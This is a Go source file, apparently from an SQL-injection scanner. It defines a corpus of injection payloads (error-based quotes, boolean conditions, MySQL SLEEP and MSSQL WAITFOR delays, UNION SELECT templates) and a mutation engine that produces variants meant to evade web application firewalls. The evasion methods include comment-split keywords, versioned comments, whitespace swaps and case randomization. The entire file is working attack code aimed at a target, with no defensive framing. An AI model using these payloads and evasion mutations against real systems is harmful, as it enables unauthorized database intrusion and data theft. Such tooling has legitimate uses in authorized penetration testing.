// Package payload holds the static SQL-injection payload corpus and the
// deterministic WAF-evasion mutation engine used to generate variants of
// each payload before it is sent to a target.
package payload

import (
	"math/rand"
	"regexp"
	"strconv"
	"strings"
)

// Corpus groups the base payloads by technique/context.
var (
	Error = []string{`'`, `"`, `')`, `" )`}

	BooleanNumTrue  = []string{" AND 1=1 -- "}
	BooleanNumFalse = []string{" AND 1=2 -- "}
	BooleanStrTrue  = []string{"' OR '1'='1' -- "}
	BooleanStrFalse = []string{"' OR '1'='2' -- "}

	// TimeMySQL and TimeMSSQL are formatted via TimePayload with the
	// configured threshold substituted in place of {delay}.
	TimeMySQL = []string{" AND SLEEP({delay}) -- ", "' OR SLEEP({delay}) -- "}
	TimeMSSQL = []string{"'; WAITFOR DELAY '0:0:{delay}';-- "}

	// UnionNumericTemplate and UnionStringTemplate are filled in via
	// UnionPayload with {cols} resolved to a
	// NULL-joined column list of the probed width.
	UnionNumericTemplate = " UNION SELECT {cols} -- "
	UnionStringTemplate  = "' UNION SELECT {cols} -- "
)

var keywords = []string{"UNION", "SELECT", "FROM", "WHERE", "AND", "OR"}

func keywordPattern(kw string) *regexp.Regexp {
	return regexp.MustCompile(`(?i)\b` + kw + `\b`)
}

// splitKeyword inserts an inline comment near the middle of every
// occurrence of kw in s.
func splitKeyword(s, kw string) string {
	re := keywordPattern(kw)
	return re.ReplaceAllStringFunc(s, func(match string) string {
		mid := len(match) / 2
		if mid < 1 {
			mid = 1
		}
		return match[:mid] + "/**/" + match[mid:]
	})
}

// versionedKeyword wraps every occurrence of kw in a MySQL-style
// versioned comment.
func versionedKeyword(s, kw string) string {
	re := keywordPattern(kw)
	return re.ReplaceAllStringFunc(s, func(match string) string {
		return "/*!" + match + "*/"
	})
}

func keywordTrailingComment(s string) string {
	out := s
	for _, kw := range keywords {
		re := keywordPattern(kw)
		out = re.ReplaceAllStringFunc(out, func(match string) string {
			return match + "/*x*/"
		})
	}
	return out
}

func caseAlternate(s string) string {
	var b strings.Builder
	for i, r := range s {
		if i%2 == 0 {
			b.WriteRune(toUpper(r))
		} else {
			b.WriteRune(toLower(r))
		}
	}
	return b.String()
}

// caseRandomize deterministically randomizes the case of every letter,
// seeded at 42 so the mutation list is stable across scans and runs.
func caseRandomize(s string) string {
	rnd := rand.New(rand.NewSource(42))
	var b strings.Builder
	for _, r := range s {
		if isAlpha(r) {
			if rnd.Float64() < 0.5 {
				b.WriteRune(toUpper(r))
			} else {
				b.WriteRune(toLower(r))
			}
		} else {
			b.WriteRune(r)
		}
	}
	return b.String()
}

func isAlpha(r rune) bool {
	return (r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z')
}

func toUpper(r rune) rune {
	if r >= 'a' && r <= 'z' {
		return r - ('a' - 'A')
	}
	return r
}

func toLower(r rune) rune {
	if r >= 'A' && r <= 'Z' {
		return r + ('a' - 'A')
	}
	return r
}

var trailingCommentRe = regexp.MustCompile(`--\s*`)

// Mutate generates the full, de-duplicated set of WAF-evasion variants for
// payload, in the fixed order: original; full keyword-split; per-keyword
// split; full versioned-comment; per-keyword versioned-comment; whitespace
// substitutions; trailing-comment variants (when "--" is present);
// keyword-trailing-comment; case-alternation; case-randomization (seed 42);
// legacy UNION/union split. The first element is always the original
// payload.
func Mutate(pl string) []string {
	var out []string
	seen := make(map[string]struct{})

	add := func(s string) {
		if s == "" {
			return
		}
		if _, ok := seen[s]; ok {
			return
		}
		seen[s] = struct{}{}
		out = append(out, s)
	}

	add(pl)

	full := pl
	for _, kw := range keywords {
		full = splitKeyword(full, kw)
	}
	add(full)

	for _, kw := range keywords {
		add(splitKeyword(pl, kw))
	}

	fullVersioned := pl
	for _, kw := range keywords {
		fullVersioned = versionedKeyword(fullVersioned, kw)
	}
	add(fullVersioned)

	for _, kw := range keywords {
		add(versionedKeyword(pl, kw))
	}

	add(strings.ReplaceAll(pl, " ", "/**/"))
	add(strings.ReplaceAll(pl, " ", "\t"))
	add(strings.ReplaceAll(pl, " ", "\n"))

	if strings.Contains(pl, "--") {
		add(strings.ReplaceAll(pl, "--", "-- "))
		add(strings.ReplaceAll(pl, "--", "--+"))
		add(trailingCommentRe.ReplaceAllString(pl, "-- - "))
	}

	add(keywordTrailingComment(pl))

	add(caseAlternate(pl))
	add(caseRandomize(pl))

	legacy := strings.ReplaceAll(pl, "UNION", "UN/**/ION")
	legacy = strings.ReplaceAll(legacy, "union", "un/**/ion")
	add(legacy)

	return out
}

// TimePayload resolves a {delay} placeholder in a time-based template to
// the integer number of seconds to sleep (minimum 1).
func TimePayload(tmpl string, seconds float64) string {
	n := int(seconds)
	if n < 1 {
		n = 1
	}
	return strings.ReplaceAll(tmpl, "{delay}", strconv.Itoa(n))
}

// UnionPayload resolves a {cols} placeholder to a NULL-joined column list
// of width n, optionally replacing one column with a marker value.
func UnionPayload(tmpl string, n int, markerAt int, marker string) string {
	cols := make([]string, n)
	for i := range cols {
		cols[i] = "NULL"
	}
	if markerAt >= 0 && markerAt < n && marker != "" {
		cols[markerAt] = "'" + marker + "'"
	}
	return strings.ReplaceAll(tmpl, "{cols}", strings.Join(cols, ","))
}

